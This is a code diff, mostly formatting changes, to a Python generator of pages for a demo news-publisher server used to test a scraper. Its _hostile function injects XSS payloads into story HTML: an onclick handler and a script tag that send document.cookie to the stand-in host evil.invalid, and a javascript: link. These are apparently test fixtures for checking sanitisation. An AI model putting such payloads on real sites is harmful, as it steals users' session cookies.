@@ -20,8 +20,20 @@ PAGE_SIZE = 5  # stories per weekly listing page
 SIDEBAR_SIZE = 5
 MEMBERS_PATH = "/weekly/members/2019-csr-index-full-data.html"
 DEAD_LINK_PATH = "/weekly/story/2015-csr-forum-notice.html"
-MONTHS = ("January", "February", "March", "April", "May", "June", "July", "August",
-          "September", "October", "November", "December")
+MONTHS = (
+    "January",
+    "February",
+    "March",
+    "April",
+    "May",
+    "June",
+    "July",
+    "August",
+    "September",
+    "October",
+    "November",
+    "December",
+)
 EVIL = "http://evil.invalid"  # .invalid never resolves: hostile pages stay offline
 
 
@@ -99,18 +111,24 @@ def _hostile(body_html: str) -> str:
         return body_html
     # <p onclick> around the second paragraph's real text.
     target = paragraphs[1] if len(paragraphs) > 1 else paragraphs[0]
-    body_html = (body_html[:target.start()]
-                 + f"<p onclick=\"location.href='{EVIL}/?c='+document.cookie\">"
-                 + target.group(1) + "</p>" + body_html[target.end():])
+    body_html = (
+        body_html[: target.start()]
+        + f"<p onclick=\"location.href='{EVIL}/?c='+document.cookie\">"
+        + target.group(1)
+        + "</p>"
+        + body_html[target.end() :]
+    )
     # A javascript: link around the first words of the third paragraph (the words stay visible).
     paragraphs = list(_P_RE.finditer(body_html))
     if len(paragraphs) > 2:
         p = paragraphs[2]
         words = p.group(1).split(" ")
         if len(words) > 6 and "<" not in " ".join(words[:4]):
-            linked = (f'<a href="javascript:alert(document.cookie)">{" ".join(words[:4])}</a> '
-                      + " ".join(words[4:]))
-            body_html = body_html[:p.start()] + f"<p>{linked}</p>" + body_html[p.end():]
+            linked = (
+                f'<a href="javascript:alert(document.cookie)">{" ".join(words[:4])}</a> '
+                + " ".join(words[4:])
+            )
+            body_html = body_html[: p.start()] + f"<p>{linked}</p>" + body_html[p.end() :]
     first_end = body_html.find("</p>") + len("</p>")
     injected = (
         f'<script>new Image().src="{EVIL}/steal?c="+encodeURIComponent(document.cookie);'
@@ -123,8 +141,11 @@ def _hostile(body_html: str) -> str:
 
 def _jsonld(story: DemoStory, url: str, publisher: str) -> str:
     data = {
-        "@context": "https://schema.org", "@type": "NewsArticle", "headline": story.title,
-        "datePublished": story.date_iso, "inLanguage": "zh-CN" if story.lang == "zh" else "en",
+        "@context": "https://schema.org",
+        "@type": "NewsArticle",
+        "headline": story.title,
+        "datePublished": story.date_iso,
+        "inLanguage": "zh-CN" if story.lang == "zh" else "en",
         "author": {"@type": "Person", "name": story.author or PUBLISHERS[publisher].name},
         "publisher": {"@type": "Organization", "name": PUBLISHERS[publisher].name},
         "mainEntityOfPage": url,
@@ -140,8 +161,10 @@ def _byline(story: DemoStory, date_style: str) -> str:
         label = "作者：" if zh else "By "
         parts.append(f'<span class="author">{label}{escape(story.author)}</span>')
     if date_style == "time":
-        parts.append(f'<time datetime="{story.date_iso}" class="published">'
-                     f"{display_date(story, story.lang)}</time>")
+        parts.append(
+            f'<time datetime="{story.date_iso}" class="published">'
+            f"{display_date(story, story.lang)}</time>"
+        )
     elif date_style == "byline":
         label = "发布时间：" if zh else "Published "
         parts.append(f'<span class="date">{label}{display_date(story, story.lang)}</span>')
@@ -153,8 +176,7 @@ def _charset_meta(story: DemoStory) -> str:
     if story.charset_in != "meta":
         return ""
     if story.encoding.startswith("gb"):
-        return (f'<meta http-equiv="Content-Type" content="text/html; '
-                f'charset={story.encoding}">\n')
+        return f'<meta http-equiv="Content-Type" content="text/html; charset={story.encoding}">\n'
     return f'<meta charset="{story.encoding}">\n'
 
 
@@ -185,20 +207,35 @@ def story_page(entry: Entry, stories: list[DemoStory], base: str) -> str:
         notice = f'<p class="reprint-line"><a href="{story.path}">{line}</a></p>'
     title, byline = escape(story.title), _byline(story, style)
     if pub == "herald":
-        main = (f'<article class="story"><h1 class="headline">{title}</h1>{byline}'
-                f'<div class="story-body">{body_html}</div>{notice}</article>')
+        main = (
+            f'<article class="story"><h1 class="headline">{title}</h1>{byline}'
+            f'<div class="story-body">{body_html}</div>{notice}</article>'
+        )
     elif pub == "review":
-        main = (f'<article class="post"><header><h1 class="entry-title">{title}</h1>{byline}'
-                f'</header>{notice}<div class="entry-content">{body_html}</div></article>')
+        main = (
+            f'<article class="post"><header><h1 class="entry-title">{title}</h1>{byline}'
+            f'</header>{notice}<div class="entry-content">{body_html}</div></article>'
+        )
     elif pub == "weekly":
-        main = (f'<div class="article"><h1>{title}</h1>{byline}<div class="article-content">'
-                f"{body_html}</div>{notice}</div>")
+        main = (
+            f'<div class="article"><h1>{title}</h1>{byline}<div class="article-content">'
+            f"{body_html}</div>{notice}</div>"
+        )
     else:
-        main = (f'<article class="news"><h1 class="title">{title}</h1>{byline}<section '
-                f'class="article-body">{body_html}</section>{notice}</article>')
+        main = (
+            f'<article class="news"><h1 class="title">{title}</h1>{byline}<section '
+            f'class="article-body">{body_html}</section>{notice}</article>'
+        )
     side = headlines(entries_for(stories, pub), exclude=entry.path)
-    return page(pub, title=story.title, lang=story.lang, head=head, main=main, headlines=side,
-                share_id=story.id)
+    return page(
+        pub,
+        title=story.title,
+        lang=story.lang,
+        head=head,
+        main=main,
+        headlines=side,
+        share_id=story.id,
+    )
 
 
 def listing_pages(stories: list[DemoStory]) -> int:
@@ -209,26 +246,42 @@ def listing_pages(stories: list[DemoStory]) -> int:
 def listing_page(number: int, stories: list[DemoStory]) -> str:
     """Weekly listing page `number` (1-based): five stories, pagination, members and dead link."""
     entries = entries_for(stories, "weekly")
-    chunk = entries[(number - 1) * PAGE_SIZE: number * PAGE_SIZE]
+    chunk = entries[(number - 1) * PAGE_SIZE : number * PAGE_SIZE]
     last = listing_pages(stories)
     items = "".join(
         f'<li><a href="{e.path}">{escape(e.story.title)}</a><p class="summary">'
-        f"{escape(e.story.summary)}</p></li>" for e in chunk)
+        f"{escape(e.story.summary)}</p></li>"
+        for e in chunk
+    )
     pager = []
     if number > 1:
-        pager.append(f'<a class="prev" href="/weekly/list/{number - 1}.html">'
-                     f'{LISTING_TEXTS["prev"]}</a>')
-    pager += [f'<a href="/weekly/list/{n}.html">{n}</a>' if n != number else f"<b>{n}</b>"
-              for n in range(1, last + 1)]
+        pager.append(
+            f'<a class="prev" href="/weekly/list/{number - 1}.html">{LISTING_TEXTS["prev"]}</a>'
+        )
+    pager += [
+        f'<a href="/weekly/list/{n}.html">{n}</a>' if n != number else f"<b>{n}</b>"
+        for n in range(1, last + 1)
+    ]
     if number < last:
-        pager.append(f'<a class="next" href="/weekly/list/{number + 1}.html">'
-                     f'{LISTING_TEXTS["next"]}</a>')
-    extra = (f'<div class="recommend"><a href="{MEMBERS_PATH}">{LISTING_TEXTS["members"]}</a> '
-             f'<a href="{DEAD_LINK_PATH}">{LISTING_TEXTS["dead"]}</a></div>')
-    main = (f'<div class="listing"><h1>{LISTING_TEXTS["heading"]}</h1><ul class="list">{items}'
-            f'</ul><div class="pager">{" ".join(pager)}</div>{extra}</div>')
-    return page("weekly", title=f'{LISTING_TEXTS["heading"]} {number}', lang="zh",
-                head='<meta charset="utf-8">\n', main=main, headlines=headlines(entries))
+        pager.append(
+            f'<a class="next" href="/weekly/list/{number + 1}.html">{LISTING_TEXTS["next"]}</a>'
+        )
+    extra = (
+        f'<div class="recommend"><a href="{MEMBERS_PATH}">{LISTING_TEXTS["members"]}</a> '
+        f'<a href="{DEAD_LINK_PATH}">{LISTING_TEXTS["dead"]}</a></div>'
+    )
+    main = (
+        f'<div class="listing"><h1>{LISTING_TEXTS["heading"]}</h1><ul class="list">{items}'
+        f'</ul><div class="pager">{" ".join(pager)}</div>{extra}</div>'
+    )
+    return page(
+        "weekly",
+        title=f"{LISTING_TEXTS['heading']} {number}",
+        lang="zh",
+        head='<meta charset="utf-8">\n',
+        main=main,
+        headlines=headlines(entries),
+    )
 
 
 def front_page(publisher: str, stories: list[DemoStory]) -> str:
@@ -236,10 +289,16 @@ def front_page(publisher: str, stories: list[DemoStory]) -> str:
     entries = entries_for(stories, publisher)
     pub = PUBLISHERS[publisher]
     items = "".join(f'<li><a href="{e.path}">{escape(e.story.title)}</a></li>' for e in entries)
-    more = ('<p><a href="/weekly/list/1.html">最新文章</a></p>' if publisher == "weekly" else "")
+    more = '<p><a href="/weekly/list/1.html">最新文章</a></p>' if publisher == "weekly" else ""
     main = f'<div class="front"><h1>{escape(pub.name)}</h1><ul>{items}</ul>{more}</div>'
-    return page(publisher, title=pub.name, lang=pub.lang, head='<meta charset="utf-8">\n',
-                main=main, headlines=headlines(entries))
+    return page(
+        publisher,
+        title=pub.name,
+        lang=pub.lang,
+        head='<meta charset="utf-8">\n',
+        main=main,
+        headlines=headlines(entries),
+    )
 
 
 MEMBERS_TITLE = "2019年电子行业社会责任指数完整数据（会员专享）"
@@ -251,38 +310,57 @@ MEMBERS_BODY = (
 
 def members_page(stories: list[DemoStory]) -> str:
     """The weekly's members-only page (robots.txt disallows it)."""
-    main = (f'<div class="article"><h1>{MEMBERS_TITLE}</h1><div class="byline"><span '
-            f'class="author">作者：周刊研究部</span></div><div class="article-content">'
-            f"{MEMBERS_BODY}</div></div>")
-    return page("weekly", title=MEMBERS_TITLE, lang="zh", head='<meta charset="utf-8">\n',
-                main=main, headlines=headlines(entries_for(stories, "weekly")))
+    main = (
+        f'<div class="article"><h1>{MEMBERS_TITLE}</h1><div class="byline"><span '
+        f'class="author">作者：周刊研究部</span></div><div class="article-content">'
+        f"{MEMBERS_BODY}</div></div>"
+    )
+    return page(
+        "weekly",
+        title=MEMBERS_TITLE,
+        lang="zh",
+        head='<meta charset="utf-8">\n',
+        main=main,
+        headlines=headlines(entries_for(stories, "weekly")),
+    )
 
 
 def home_page(stories: list[DemoStory]) -> str:
     """The demo server's home page: links to the four publishers and their feeds."""
-    finds = {"herald": "/herald/feed.xml", "review": "/review/atom.xml",
-             "weekly": "/weekly/list/1.html", "esn": "/esn/sitemap.xml"}
+    finds = {
+        "herald": "/herald/feed.xml",
+        "review": "/review/atom.xml",
+        "weekly": "/weekly/list/1.html",
+        "esn": "/esn/sitemap.xml",
+    }
     rows = "".join(
         f'<li><a href="/{key}/">{escape(PUBLISHERS[key].name)}</a> '
         f'(<a href="{finds[key]}">{finds[key]}</a>, {len(entries_for(stories, key))} stories)</li>'
-        for key in PUBLISHER_KEYS)
-    return ('<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>csrnews demo '
-            f"publisher</title></head><body><h1>csrnews demo publisher</h1><ul>{rows}</ul>"
-            '<p><a href="/robots.txt">robots.txt</a></p></body></html>\n')
+        for key in PUBLISHER_KEYS
+    )
+    return (
+        '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>csrnews demo '
+        f"publisher</title></head><body><h1>csrnews demo publisher</h1><ul>{rows}</ul>"
+        '<p><a href="/robots.txt">robots.txt</a></p></body></html>\n'
+    )
 
 
 def not_found_page(path: str) -> str:
     """The 404 page."""
-    return ('<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>404 Not Found'
-            f"</title></head><body><h1>Not Found</h1><p>No page at {escape(path)}.</p>"
-            '<p><a href="/">Demo publisher home</a></p></body></html>\n')
+    return (
+        '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>404 Not Found'
+        f"</title></head><body><h1>Not Found</h1><p>No page at {escape(path)}.</p>"
+        '<p><a href="/">Demo publisher home</a></p></body></html>\n'
+    )
 
 
 def error_page(status: int) -> str:
     """The page of a failure injected by fail_prefix."""
-    return ('<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Error'
-            f"</title></head><body><h1>Error {status}</h1><p>The publisher is having trouble."
-            "</p></body></html>\n")
+    return (
+        '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Error'
+        f"</title></head><body><h1>Error {status}</h1><p>The publisher is having trouble."
+        "</p></body></html>\n"
+    )
 
 
 def last_changed(entries: list[Entry]) -> dt.datetime | None:
